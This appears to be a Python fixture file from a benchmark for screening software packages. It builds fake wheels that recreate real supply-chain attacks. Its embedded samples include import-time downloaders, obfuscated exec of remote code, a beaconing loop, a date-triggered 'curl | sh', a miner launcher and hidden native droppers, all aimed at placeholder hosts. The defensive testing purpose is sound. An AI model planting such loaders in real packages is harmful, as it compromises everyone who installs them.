"""What runs on import, or later: downloads at once, on a day, after a while, or when something is called."""

import base64
from typing import Final

from bench.screening.attacks.attack import Attack, Release
from bench.screening.attacks.building import elf
from bench.screening.attacks.ordinary import COMMENT, library
from sandboxes.screening.package import Kind

_DOWNLOADER = """
import os
import tempfile
import urllib.request


def _prepare():
    path = os.path.join(tempfile.gettempdir(), "helper.py")
    urllib.request.urlretrieve("https://files.example.invalid/helper.py", path)
    os.system(f"python3 {path} &")


_prepare()
"""

_ALIASED = """
import importlib as i

_n = i.import_module("urllib.re" + "quest")
_r = getattr(_n, "url" + "open")
_b = i.import_module("built" + "ins")
_x = getattr(_b, "ex" + "ec")
_x(_r("http://192.0.2.44/stage").read())
"""

_LOOP = f'''{COMMENT}import base64
import threading
import time
import urllib.request

_ADDRESS = base64.b64decode("{base64.b64encode(b"http://192.0.2.51/next").decode()}").decode()


def _ask():
    while True:
        try:
            code = urllib.request.urlopen(_ADDRESS, timeout=5).read()
            if code:
                exec(base64.b64decode(code).decode())
        except Exception:
            pass
        time.sleep(300)


threading.Thread(target=_ask, daemon=True).start()
'''

_DAY = f"""{COMMENT}import datetime
import subprocess
import sys


def _due():
    return datetime.date.today() >= datetime.date(2027, 1, 1)


if _due() and not sys.gettrace():
    subprocess.Popen(["sh", "-c", "curl -s https://later.example.invalid/now.sh | sh"])
"""

_RUNTIME = f'''{COMMENT}import os
import platform
import stat
import subprocess
import tempfile
import urllib.request


def safe_run(path):
    """Starts what was downloaded."""
    os.chmod(path, os.stat(path).st_mode | stat.S_IXUSR)
    command = [path, "-u", "PETRIDISH-INERT-SAMPLE.nobody", "-p", "192.0.2.60:8080"]
    subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    os.remove(path)


def predict(values):
    if platform.system() == "Linux":
        target = os.path.join(tempfile.mkdtemp(), "runner")
        urllib.request.urlretrieve("https://files.example.invalid/runner", target)
        safe_run(target)
    return [value * 2 for value in values]
'''

_NATIVE = """
import os
import subprocess

_here = os.path.join(os.path.dirname(__file__), "triton")
os.chmod(_here, 0o755)
subprocess.Popen([_here])
"""

_SHARED = """
import ctypes
import os

ctypes.CDLL(os.path.join(os.path.dirname(__file__), "data", "table.dat"))
"""

ATTACKS: Final[tuple[Attack, ...]] = (
    Attack(
        name="import-downloader",
        recreates="pymafka (2022), moved to import: downloads a program and starts it at once",
        kind=Kind.WHEEL,
        project="pymafka-text",
        release=Release("3.0", library("pymafka_text", _DOWNLOADER)),
        expects=frozenset({"import-time"}),
    ),
    Attack(
        name="aliased-downloader",
        recreates="the evasions collected since 2022: the same, through aliases and names put together",
        kind=Kind.WHEEL,
        project="import-alias-kit",
        release=Release("0.0.2", library("import_alias_kit", _ALIASED)),
        expects=frozenset({"import-time", "obfuscation"}),
    ),
    Attack(
        name="delayed-loop",
        recreates="VMConnect (2023): a thread that asks every few minutes for code and runs it",
        kind=Kind.WHEEL,
        project="vm-text-connect",
        release=Release(
            "1.0.5",
            {**library("vm_text_connect", "from . import _session\n"), "vm_text_connect/_session.py": _LOOP},
        ),
        expects=frozenset({"import-time", "obfuscation"}),
    ),
    Attack(
        name="on-a-day",
        recreates="the delayed packages of 2024: quiet until a day, then a download",
        kind=Kind.WHEEL,
        project="calendar-text-kit",
        release=Release(
            "2.1",
            {**library("calendar_text_kit", "from . import _dates\n"), "calendar_text_kit/_dates.py": _DAY},
        ),
        expects=frozenset({"import-time"}),
    ),
    Attack(
        name="runtime-download",
        recreates="ultralytics 8.3.41 (2024): a miner is downloaded when the library's own function is called",
        kind=Kind.WHEEL,
        project="ultra-text-model",
        release=Release(
            "8.3.41", {**library("ultra_text_model"), "ultra_text_model/model.py": _RUNTIME}, provenance=True
        ),
        former=Release("8.3.40", library("ultra_text_model"), provenance=True),
        since="2022-09-01T08:00:00Z",
        releases=600,
        expects=frozenset({"difference", "import-time", "yara"}),
    ),
    Attack(
        name="native-dropper",
        recreates="torchtriton (2022): a program in a pure wheel, started on import",
        kind=Kind.WHEEL,
        project="torch-text-triton",
        release=Release(
            "2.0.0", {**library("torch_text_triton", _NATIVE), "torch_text_triton/triton": elf()}
        ),
        expects=frozenset({"native", "import-time"}),
    ),
    Attack(
        name="native-under-another-name",
        recreates="fshec2's way (2023) with machine code: a library that calls itself data is loaded",
        kind=Kind.WHEEL,
        project="table-text-data",
        release=Release(
            "1.4.0", {**library("table_text_data", _SHARED), "table_text_data/data/table.dat": elf()}
        ),
        expects=frozenset({"native", "import-time"}),
    ),
)
